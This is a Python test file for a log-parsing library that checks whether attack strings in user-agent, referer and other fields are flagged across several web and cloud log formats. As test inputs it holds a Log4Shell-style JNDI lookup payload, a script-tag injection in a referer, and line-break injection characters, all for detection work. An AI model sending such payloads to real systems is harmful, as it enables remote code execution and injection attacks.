"""In every format of requests, what is unusual beside the target is a part of the event; what is ordinary is none."""

import json
from base64 import b64encode
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from trine.log_formats.log_event import Format, LogEvent
from trine.log_formats.registry import FORMATS
from trine.log_formats.request_marks import agent_part, rest_part

FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0"
JNDI = "${jndi:ldap://a/b}"
OWNER = "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be"
HOST_ID = "s9lzHYrFp76ZVxRcpX9+5cjAnEH2ROuNkd2BHfIa6UkFVdtjf5mKR3/eTPFvsiP/XV/VLi31234="

Write = Callable[[str, str, str], str]
"""Makes a line of a user agent, a referer and a further field."""


def web(agent: str, referer: str, further: str) -> str:
    return f'192.0.2.1 - - [01/May/2024:10:00:00 +0000] "GET /x HTTP/1.1" 200 5 "{referer}" "{agent}" "{further}"'


def squid(agent: str, referer: str, further: str) -> str:
    begin = "1714557600.123 812 192.0.2.1 TCP_MISS/200 543 GET http://a/x ann HIER_DIRECT/192.0.2.9 text/html"
    return f'{begin} "{referer}" "{agent}" "{further}"'


def elb(agent: str, referer: str, further: str) -> str:
    begin = "https 2024-05-01T10:00:00.186641Z app/lb/50dc 192.0.2.1:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57"
    return (
        f'{begin} "GET https://a:443/x HTTP/1.1" "{agent}" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 "{referer}" "{further}"'
    )


def s3(agent: str, referer: str, further: str) -> str:
    begin = f"{OWNER} photos [01/May/2024:10:00:00 +0000] 192.0.2.1 - 3E57427F3EXAMPLE REST.GET.OBJECT x"
    return f'{begin} "GET /x HTTP/1.1" 200 - 113 - 7 - "{referer}" "{agent}" - {HOST_ID} SigV4 "{further}"'


def json_record(agent: str, referer: str, further: str) -> str:
    request = {"method": "GET", "path": "/x", "status": 200, "user_agent": agent, "referer": referer}
    return json.dumps({"time": "2024-05-01T10:00:00Z", "client_ip": "192.0.2.1", **request})


def logfmt(agent: str, referer: str, further: str) -> str:
    return f'time=2024-05-01T10:00:00Z method=GET path=/x status=200 user_agent="{agent}" referer="{referer}"'


def w3c(agent: str, referer: str, further: str) -> str:
    return f"2024-05-01\t10:00:00\tGET\t/x\t200\t{agent.replace(' ', '%20')}\t{referer}"


W3C_HEADER = "#Fields: date time cs-method cs-uri-stem sc-status cs(User-Agent) cs(Referer)"
LINES: dict[str, Write] = {
    "web": web,
    "squid": squid,
    "elb": elb,
    "s3": s3,
    "json": json_record,
    "logfmt": logfmt,
    "w3c": w3c,
}


def parts(name: str, line: str) -> tuple[str, ...]:
    """The parts of the event of a line."""
    log: Format = FORMATS[name]()
    if name == "w3c":
        log.parse(W3C_HEADER)
    event = log.parse(line)
    assert isinstance(event, LogEvent)
    assert isinstance(event.event, tuple)
    return event.event


@pytest.mark.parametrize("name", LINES)
def test_ordinary_fields_are_no_part(name: str) -> None:
    write = LINES[name]
    assert not [part for part in parts(name, write(FIREFOX, "https://a.example/b?c=d", "a.example")) if "{" in part]


@pytest.mark.parametrize("name", ["web", "elb", "s3", "json", "logfmt", "w3c"])
def test_an_attack_in_the_user_agent_is_a_part(name: str) -> None:
    write = LINES[name]
    ordinary = parts(name, write("curl/8.5.0", "-", "-"))
    assert parts(name, write(JNDI, "-", "-")) == (*ordinary, " agent{scheme,template}")


@pytest.mark.parametrize("name", ["web", "s3", "json", "logfmt", "w3c"])
def test_an_attack_in_the_referer_is_a_part(name: str) -> None:
    write = LINES[name]
    ordinary = parts(name, write("curl/8.5.0", "-", "-"))
    assert parts(name, write("curl/8.5.0", "http://a/?q=<script>", "-")) == (*ordinary, " referer{tag}")


@pytest.mark.parametrize("name", ["web", "squid", "elb", "s3"])
def test_an_attack_in_a_further_field_is_a_part(name: str) -> None:
    write = LINES[name]
    ordinary = parts(name, write("curl/8.5.0", "-", "-"))
    assert parts(name, write("curl/8.5.0", "-", JNDI)) == (*ordinary, " rest{scheme,template}")


@pytest.mark.parametrize("character", ["\r", "\v", "\x85", "\u2028"])
@pytest.mark.parametrize("name", ["web", "squid", "elb", "s3"])
def test_a_line_break_within_a_line_is_a_part(name: str, character: str) -> None:
    line = LINES[name]("curl/8.5.0", "-", "-")
    ordinary = parts(name, line)
    assert parts(name, f"{line}{character}") == ordinary
    broken = parts(name, f"{line}{character}{line}")
    assert (broken[: len(ordinary)], broken[-1]) == (ordinary, " {line break}")


@given(number=st.binary(min_size=20, max_size=60))
def test_keys_and_ids_in_further_fields_are_ordinary(number: bytes) -> None:
    assert rest_part(f" - {b64encode(number).decode()} {number.hex()} SigV4 - TLSv1.2") == ""


@pytest.mark.parametrize("blank", [" ", "+", "%20"])
def test_a_user_agent_is_ordinary_however_its_blanks_are_written(blank: str) -> None:
    assert agent_part(FIREFOX.replace(" ", blank)) == ""
